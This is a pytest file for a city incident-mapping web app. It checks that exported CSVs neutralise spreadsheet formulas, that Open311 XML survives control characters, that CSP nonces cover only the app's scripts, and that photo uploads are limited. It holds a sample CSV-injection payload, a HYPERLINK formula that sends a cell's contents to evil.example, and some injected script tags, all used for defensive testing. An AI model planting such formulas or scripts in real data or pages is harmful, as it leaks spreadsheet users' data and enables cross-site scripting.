"""Data kept in (issue 25, part 3; ../shared/SECURITY.md round 2, findings 7, 11, 15, 17):
CSV cells that a spreadsheet would run are neutralised in every CSV the app writes,
control characters stored in old rows do not break Open311's XML, the CSP nonce is on the
app's own scripts only, and photos are bounded per request and per user per hour."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

import pytest
import shapely

from gridmap.lookup import LookupIndex
from gridmap.services import cases, open311
from gridmap.settings import Settings
from gridmap.stores import open_store
from tests.accounts import english, logged_in, signed_in
from tests.conftest import TEST_CELLS, copy_city
from tests.web.conftest import city_copy, serving, spot_in
from tests.web.test_bad_input import png_header
from tests.web.test_plan_compare import make_plan, neighborhoods
from web import create_app
from web.auth import public

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'


@pytest.fixture(scope="module")
def k_db(sample_path, tmp_path_factory):
    return city_copy(sample_path, tmp_path_factory, "keptin")


@pytest.fixture(scope="module")
def k_app(k_db):
    return create_app({"DATABASE_URL": k_db, "TESTING": True})


def test_a_public_formula_comes_out_of_the_incidents_csv_as_text(k_app, k_db):
    _, lon, lat = spot_in(k_db)
    public = k_app.test_client()
    r = public.post(
        "/public/report",
        data={"lon": lon, "lat": lat, "category": "E0103", "description": FORMULA},
    )
    assert r.status_code == 201
    dispatcher = signed_in(k_app.test_client(), k_db, "dispatcher")
    r = dispatcher.get("/data/export/incidents.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    planted = [x for x in rows if FORMULA in x["description"]]
    assert len(planted) == 1
    assert planted[0]["description"] == "'" + FORMULA
    for row in rows:  # no text cell starts a formula; numbers stay numbers
        for name, cell in row.items():
            assert not cell.startswith(("=", "@", "\t", "\r")), (name, cell)
        float(row["lon"]), float(row["lat"])


def test_a_plan_district_name_comes_out_of_compare_csv_as_text(sample_path, tmp_path):
    path = tmp_path / "city.gpkg"
    copy_city(sample_path, path)
    url = f"gpkg://{path}"
    app = create_app({"DATABASE_URL": url, "TESTING": True})
    planner = logged_in(app.test_client(), url, "planner")
    assignment = neighborhoods(path)
    renamed = sorted(assignment)[0]
    assignment[renamed] = FORMULA
    plan = make_plan(planner, "a formula", assignment)
    r = planner.get(f"/plans/{plan}/compare.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data().decode("utf-8")[1:])))
    assert ("'" + FORMULA) in {x["new"] for x in rows}
    assert FORMULA not in {x["new"] for x in rows}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@")), cell


def test_a_stored_control_character_leaves_open311_xml_parseable(k_app, k_db):
    """An old row (stored before the parsers refused control characters), put in through
    the store: every Open311 answer that carries it parses, and JSON says the same."""
    with open_store(k_db) as store:
        grid = store.areas("grid").iloc[120]
        p = shapely.point_on_surface(grid.geometry)
        cal = cases.calendar(store, Settings())
        index = LookupIndex.from_store(store, max_cells=TEST_CELLS)
        incident_id, _ = open311.submit(
            store, index, cal, "app", p.x, p.y, "E0103", "x \x02 y\x1b[31m \x0c z"
        )
        assert "\x02" in store.case(incident_id)["description"]
    client = k_app.test_client()
    for path in ("/open311/v2/requests.xml", f"/open311/v2/requests/{incident_id}.xml"):
        r = client.get(path)
        assert r.status_code == 200
        root = ET.fromstring(r.get_data())
        mine = [x for x in root if x.findtext("service_request_id") == str(incident_id)]
        assert mine[0].findtext("description") == "x  y[31m  z"
    r = client.get(f"/open311/v2/requests/{incident_id}.json")
    assert r.get_json()[0]["description"] == "x  y[31m  z"


def _png(size=(64, 48), noise: bool = False) -> bytes:
    import numpy as np
    from PIL import Image

    out = io.BytesIO()
    if noise:  # incompressible: the file is about as big as its pixels
        pixels = np.random.default_rng(1).integers(0, 255, (*size[::-1], 3), dtype=np.uint8)
        image = Image.fromarray(pixels)
    else:
        image = Image.new("RGB", size, (200, 30, 30))
    image.save(out, "PNG")
    return out.getvalue()


@pytest.fixture(scope="module")
def photo_app(k_db):
    return create_app(
        {
            "DATABASE_URL": k_db,
            "TESTING": True,
            "PHOTO_REQUEST_BYTES": 300_000,
            "PHOTOS_PER_HOUR": 8,
        }
    )


def _report(client, spot, photos):
    _, lon, lat = spot
    data = {"lon": str(lon), "lat": str(lat), "category": "E0102", "photos": photos}
    return client.post("/api/cases", data=data, content_type="multipart/form-data")


def test_photos_are_bounded_per_request_before_decoding(photo_app, k_db):
    spot = spot_in(k_db)
    officer = english(signed_in(photo_app.test_client(), k_db, "officer", areas=(spot[0],)))
    with open_store(k_db) as store:
        before = store.count_incidents()
    six = [(io.BytesIO(_png()), f"{i}.png") for i in range(6)]
    r = _report(officer, spot, six)
    assert r.status_code == 400 and r.json["parameter"] == "photos", r.json
    assert "at most 5" in r.json["message"]
    big = [(io.BytesIO(_png((256, 256), noise=True)), f"{i}.png") for i in range(2)]
    r = _report(officer, spot, big)
    assert r.status_code == 400 and r.json["parameter"] == "photos", r.json
    assert "MB of photos in one request; at most 0.3 MB" in r.json["message"]
    # Three 36-megapixel pictures (each allowed alone): refused from their headers alone
    # (these are only headers: decoding them would fail otherwise).
    wide = [(io.BytesIO(png_header(6000, 6000)), f"{i}.png") for i in range(3)]
    r = _report(officer, spot, wide)
    assert r.status_code == 400 and r.json["parameter"] == "photos", r.json
    assert "megapixels of photos in one request" in r.json["message"]
    with open_store(k_db) as store:
        assert store.count_incidents() == before


def test_photos_per_user_per_hour(photo_app, k_db):
    spot = spot_in(k_db)
    officer = english(signed_in(photo_app.test_client(), k_db, "officer", areas=(spot[0],)))
    other = signed_in(photo_app.test_client(), k_db, "officer", "viewer", areas=spot[:1])
    five = [(io.BytesIO(_png()), f"{i}.png") for i in range(5)]
    assert _report(officer, spot, five).status_code == 201
    with open_store(k_db) as store:
        before = store.count_incidents()
    four = [(io.BytesIO(_png()), f"{i}.png") for i in range(4)]
    r = _report(officer, spot, four)
    assert r.status_code == 429 and "an hour" in r.json["message"], r.json
    with open_store(k_db) as store:
        assert store.count_incidents() == before
    three = [(io.BytesIO(_png()), f"{i}.png") for i in range(3)]
    assert _report(officer, spot, three).status_code == 201  # 8 in the hour: the limit
    assert _report(officer, spot, []).status_code == 201  # no photo: not limited
    assert _report(officer, spot, [(io.BytesIO(_png()), "a.png")]).status_code == 429
    r = _report(other, spot, [(io.BytesIO(_png()), "a.png")])
    assert r.status_code == 201  # another user counts alone


def _nonce(response) -> str:
    policy = response.headers["Content-Security-Policy"]
    return re.search(r"'nonce-([^']+)'", policy).group(1)


def test_the_nonce_is_on_the_apps_own_scripts_only(k_db):
    """A route answering HTML with a script in it (as an HTML injection would put one)
    gets no nonce; the map page and the templates' scripts carry this answer's nonce."""
    app = create_app({"DATABASE_URL": k_db, "TESTING": True})

    @app.get("/test-injected")
    @public
    def injected():
        return "<p>an area named <script>alert(1)</script><script src=/x.js></script></p>"

    client = app.test_client()
    r = client.get("/test-injected")
    assert r.status_code == 200 and r.mimetype == "text/html"
    body = r.get_data(as_text=True)
    assert "<script>alert(1)</script><script src=/x.js></script>" in body
    assert "nonce" not in body and _nonce(r)

    viewer = signed_in(app.test_client(), k_db, "viewer")
    for path in ("/", "/public/", "/openapi"):
        r = viewer.get(path, headers={"Accept": "text/html"})
        assert r.status_code == 200, path
        page = r.get_data(as_text=True)
        tags = re.findall(r"<script\b[^>]*>", page)
        assert tags, path
        assert all(f'nonce="{_nonce(r)}"' in tag for tag in tags), (path, tags)
        if path == "/":  # folium's page: its inline scripts and the vendored files
            assert "GridMap.init(" in page and "L_NO_TOUCH" in page and len(tags) == 6
    two = [_nonce(viewer.get("/public/")) for _ in range(2)]
    assert two[0] != two[1]  # a new one for every answer


def test_in_a_browser_an_injected_script_does_not_run_and_ours_does(k_db, browser):
    """Chromium under the app's CSP: the template's script (with ``csp_nonce()``) runs,
    the same page's injected one (text put into the answer) does not."""
    from flask import render_template_string

    app = create_app({"DATABASE_URL": k_db, "TESTING": True})

    @app.get("/test-injected")
    @public
    def injected():
        own = render_template_string('<script nonce="{{ csp_nonce() }}">window.ours = 1</script>')
        return "<!DOCTYPE html><p>x</p>" + own + "<script>window.injected = 1</script>"

    with serving(app) as base:
        context = browser.new_context()
        page = context.new_page()
        refused = []
        page.on("console", lambda m: m.type == "error" and refused.append(m.text))
        page.goto(base + "/test-injected")
        assert page.evaluate("window.ours") == 1
        assert page.evaluate("typeof window.injected") == "undefined"
        assert any("Content Security Policy" in m for m in refused), refused
        context.close()
